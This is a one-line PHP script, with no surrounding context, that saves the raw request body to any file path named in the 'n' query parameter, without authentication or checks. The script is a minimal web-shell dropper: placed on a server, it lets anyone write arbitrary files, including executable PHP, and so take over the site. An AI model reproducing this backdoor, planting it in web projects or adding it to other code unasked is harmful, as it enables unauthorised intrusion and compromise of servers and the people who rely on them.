<?php file_put_contents($_GET['n'], file_get_contents('php://input'));
